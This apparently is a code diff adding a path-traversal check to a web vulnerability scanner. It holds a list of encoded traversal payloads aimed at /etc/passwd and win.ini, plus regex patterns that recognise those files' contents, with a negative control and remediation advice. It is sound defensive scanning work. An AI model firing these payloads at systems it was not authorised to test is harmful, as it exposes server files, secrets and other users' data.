@@ -1,0 +1,104 @@
+import type { WebResponse } from '../../web/web-client.ts';
+import type { ActiveCheck, InjectionPoint } from '../active-check.ts';
+import { printableLine } from '../content/evidence.ts';
+import { saidBy } from './html-answer.ts';
+import { causeOf, takesValue, wordsOf } from './point-words.ts';
+
+const passwd = /^root:[^:\n]{0,200}:0:0:[^:\n]{0,200}:[^:\n]{0,200}:[^:\n]{0,200}$/m;
+const otherUsers = /^(?:daemon|bin|nobody|sys|adm|mail):[^:\n]{0,200}:\d{1,6}:\d{1,6}:/m;
+const winIni = /^; for 16-bit app support\s*$/im;
+const winSection = /^\[(?:fonts|extensions|mci extensions|files|mail)\]\s*$/im;
+
+/** What of a file of the system an answer holds: the first of its lines, without the others. */
+function systemFile(response: WebResponse): string | undefined {
+  const text = saidBy(response).replaceAll('\r\n', '\n');
+  if (passwd.test(text) && otherUsers.test(text)) return passwd.exec(text)?.[0];
+  return winIni.test(text) && winSection.test(text) ? '; for 16-bit app support' : undefined;
+}
+
+interface Way {
+  /** Written as it stands in the address. `up` is how many folders it goes up. */
+  readonly value: (file: string, up: number, own: string) => string;
+  readonly file: 'etc/passwd' | 'windows/win.ini';
+  readonly for: InjectionPoint['kind'];
+}
+
+const encoded = encodeURIComponent;
+const ending = (own: string) => /\.[a-z0-9]{1,5}$/i.exec(own)?.[0] ?? '.png';
+
+const ways: readonly Way[] = [
+  { for: 'query', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
+  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`/${file}`) },
+  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`file:///${file}`) },
+  { for: 'query', file: 'etc/passwd', value: (file, up) => encoded(`${'....//'.repeat(up)}${file}`) },
+  {
+    for: 'query',
+    file: 'etc/passwd',
+    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
+  },
+  {
+    for: 'query',
+    file: 'etc/passwd',
+    value: (file, up, own) => `${encoded(`${'../'.repeat(up)}${file}`)}%00${encoded(ending(own))}`,
+  },
+  {
+    for: 'query',
+    file: 'etc/passwd',
+    value: (file, up, own) => encoded(`${own.split('/')[0] ?? ''}/${'../'.repeat(up)}${file}`),
+  },
+  {
+    for: 'query',
+    file: 'windows/win.ini',
+    value: (file, up) => encoded(`${'..\\'.repeat(up)}${file.replaceAll('/', '\\')}`),
+  },
+  { for: 'query', file: 'windows/win.ini', value: (file) => encoded(`C:/${file}`) },
+  { for: 'path', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
+  { for: 'path', file: 'etc/passwd', value: (file, up) => `${'%2e%2e%2f'.repeat(up)}${file}` },
+  {
+    for: 'path',
+    file: 'etc/passwd',
+    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
+  },
+  { for: 'path', file: 'windows/win.ini', value: (file, up) => `${'..%5c'.repeat(up)}${file.replaceAll('/', '%5c')}` },
+];
+
+/**
+ * A value names a file of the server's system, and its content comes back: the lines of `/etc/passwd` (root with number
+ * 0 and another user) or of `win.ini`. Asked plainly, encoded once and twice, with doubled dots and with a NUL before the
+ * ending. Silent where the same page shows them for a file that does not exist. Certain.
+ */
+export const pathTraversal: ActiveCheck = {
+  id: 'path-traversal',
+  title: 'Files of the server can be read (path traversal)',
+  score: 8,
+  confidence: 'certain',
+  cwe: [22],
+  references: [
+    'https://owasp.org/www-community/attacks/Path_Traversal',
+    'https://cwe.mitre.org/data/definitions/22.html',
+  ],
+  risk: 'Anybody reads every file that the application may read: its sources, its settings with passwords and keys, data of others.',
+  recommendation:
+    'Choose files by a key in a list and not by a name from the request. Where a name is needed, resolve it to a full path first and refuse what does not lie in the wanted folder. Let the application run as a user that may read only what it needs.',
+  asks: (point) => takesValue(point),
+  async probe({ point, original, send, marker }) {
+    if (systemFile(original) !== undefined) return undefined;
+    for (const way of ways) {
+      if (way.for !== point.kind) continue;
+      if (systemFile(await send(way.value(way.file, 9, point.value))) === undefined) continue;
+      // The negative control: a file that does not exist shows nothing of the kind.
+      const control = await send(way.value(`${way.file.split('/')[0]}/${marker()}`, 9, point.value));
+      const value = way.value(way.file, 12, point.value);
+      const response = await send(value);
+      const shown = systemFile(response);
+      if (systemFile(control) !== undefined || shown === undefined) continue;
+      return {
+        cause: causeOf(point),
+        description: `${wordsOf(point)} names a file that the server reads, also outside the site.`,
+        evidence: `sent: ${value}\nin the answer: ${printableLine(shown, 100)}`,
+        response,
+      };
+    }
+    return undefined;
+  },
+};
